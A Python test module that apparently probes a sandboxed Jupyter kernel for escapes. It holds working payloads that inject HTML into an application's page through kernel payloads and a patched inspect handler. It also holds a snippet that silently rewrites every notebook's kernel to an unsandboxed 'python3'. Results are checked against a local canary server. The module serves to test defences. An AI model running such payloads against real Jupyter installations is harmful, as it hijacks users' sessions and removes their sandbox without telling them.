"""What a cell of the kernel "Python (sandboxed)" displays, in the page of a Jupyter application.

The kernel is started as an application does it, all payloads for a browser are displayed in it, and
what the application got is opened in a real browser as it came. A payload that loads something
there would act with the person's login to Jupyter, and can start a kernel without a sandbox.
"""

from __future__ import annotations

import asyncio
import http.server
import io
import json
import logging
import os
import shutil
import threading
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

from attacks.browse import BROWSERS, _Canary, _cell, _open, _page
from attacks.cells.browser import PAYLOADS
from attacks.words import Report, host_attack

if TYPE_CHECKING:
    from attacks.stage import Stage

ANSWER_S = 30.0
BEYOND = """
ip, html = get_ipython(), "<img src='ADDRESS'>"
ip.payload_manager.write_payload(
    {"source": "page", "start": 0, "data": {"text/html": html, "text/plain": "help"}})
class Shown:
    _repr_html_ = lambda self: html
shown = Shown()
def do_inspect(*_, **__):
    return {"status": "ok", "found": True, "data": {"text/html": html}, "metadata": {}}
type(ip.kernel).do_inspect = do_inspect
"""


def loaded(stage: Stage, report: Report) -> str:
    """Tell what the browser of an application loaded for a cell."""
    return report.text if report.text.startswith("loaded") else ""


@host_attack("host-confusion", loaded, timeout_s=180)
async def displays_in_an_application(folder: Path) -> str:
    """Scripts, images and frames that a cell displays in a Jupyter application"""
    browser = next((found for name in BROWSERS if (found := shutil.which(name))), None)
    if browser is None:
        return "no browser is here"
    asked: set[str] = set()
    handler = type("Canary", (_Canary,), {"asked": asked})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{server.server_port}"
    try:
        shown = await _displayed(folder, address)
        pages = folder / "pages"
        pages.mkdir()
        for name, outputs in shown.items():
            page = await asyncio.to_thread(_page, outputs, raw=True)
            (pages / f"{name}.html").write_text(page)
        frames = "".join(f'<iframe src="{name}.html"></iframe>' for name in shown)
        script = f"<script>fetch('{address}/opened')</script>"
        (pages / "index.html").write_text(f"<!doctype html><body>{frames}{script}")
        await asyncio.to_thread(_open, browser, pages, address, asked)
    finally:
        server.shutdown()
        server.server_close()
    if "opened" not in asked or len(shown) < len(PAYLOADS):
        raise KeyError(f"{len(shown)} of {len(PAYLOADS)} payloads were seen")  # it shows nothing
    ran = sorted(asked - {"opened", "favicon.ico"})
    return f"loaded in the application's page: {', '.join(ran)}" if ran else ""


@asynccontextmanager
async def _application(folder: Path) -> AsyncIterator[Any]:
    """Start the kernel as an application does it, and return the client of one."""
    from jupyter_client.manager import AsyncKernelManager

    from kernel_agent.cli.kernelspec import specification

    level = os.environ.get("PLAYED_LEVEL", "auto")
    place = folder / "share" / "kernels" / "boxed"
    place.mkdir(parents=True)
    spec = specification("auto" if level == "none" else level)
    (place / "kernel.json").write_text(json.dumps(spec))
    (folder / "work").mkdir(exist_ok=True)
    os.environ["JUPYTER_PATH"] = str(folder / "share")
    manager = AsyncKernelManager(kernel_name="boxed")
    await manager.start_kernel(cwd=str(folder / "work"))
    client = manager.client()
    client.start_channels()
    try:
        await client.wait_for_ready(timeout=100)
        yield client
    finally:
        client.stop_channels()
        await manager.shutdown_kernel(now=True)


async def _displayed(folder: Path, address: str) -> dict[str, list[dict[str, Any]]]:
    """Return the outputs that an application gets of each payload, and of what lies beyond."""
    shown = {}
    async with _application(folder) as client:
        for name, (_, bundle) in PAYLOADS.items():
            text = json.dumps(bundle).replace("ADDRESS", f"{address}/{name}")
            shown[name] = (await _run(client, _cell(text)))[0]
        beyond = BEYOND.replace("ADDRESS", f"{address}/payload")
        _, reply = await _run(client, beyond)
        bundles = [p.get("data", {}) for p in reply.get("payload", [])]
        _, reply = await _run(client, "", user_expressions={"e": "shown"})
        bundles += [e.get("data", {}) for e in reply["user_expressions"].values()]
        bundles.append((await _answer(client, client.inspect("shown", 2)))["data"])
        shown["payload"] = [_display(data) for data in bundles]
    return shown


OWN = """
import pathlib
for path in pathlib.Path().rglob("*.ipynb"):
    try:
        path.write_text(path.read_text().replace("boxed", "python3"))
    except OSError:
        pass
"""


def changed_in_silence(stage: Stage, report: Report) -> str:
    """Tell that a notebook starts another kernel and that nobody was told of it."""
    return report.text if report.text.startswith("a notebook starts") else ""


@host_attack("next-command", changed_in_silence, timeout_s=120)
async def kernel_of_the_own_notebook(folder: Path) -> str:
    """The kernel that a notebook starts when it is opened again, changed by its cell"""
    notebook = folder / "work" / "own.ipynb"
    notebook.parent.mkdir()
    kernel = {"kernelspec": {"name": "boxed", "language": "python", "display_name": "x"}}
    notebook.write_text(json.dumps({"cells": [], "metadata": kernel, "nbformat": 4}))
    said = io.StringIO()
    logging.getLogger("traitlets").addHandler(logging.StreamHandler(said))
    async with _application(folder) as client:
        await _run(client, OWN)
    if "python3" not in notebook.read_text():
        return ""
    named = "own.ipynb (python3)" in said.getvalue()
    return "named in the log" if named else "a notebook starts another kernel, and nobody was told"


def _display(data: dict[str, Any]) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": {}}


async def _run(client: Any, code: str, **more: Any) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    """Run a cell; return its outputs as a notebook has them, and the reply."""
    asked, outputs = client.execute(code, **more), []
    while True:
        message = await client.get_iopub_msg(timeout=ANSWER_S)
        content, kind = message["content"], message["msg_type"]
        if message["parent_header"].get("msg_id") != asked:
            continue
        if content.get("execution_state") == "idle":
            return outputs, await _answer(client, asked)
        if kind in ("stream", "error", "display_data", "execute_result"):
            fields = {name: value for name, value in content.items() if name != "transient"}
            outputs.append({"output_type": kind, **fields})


async def _answer(client: Any, asked: str) -> dict[str, Any]:
    while True:
        message = await client.get_shell_msg(timeout=ANSWER_S)
        if message["parent_header"].get("msg_id") == asked:
            return dict(message["content"])
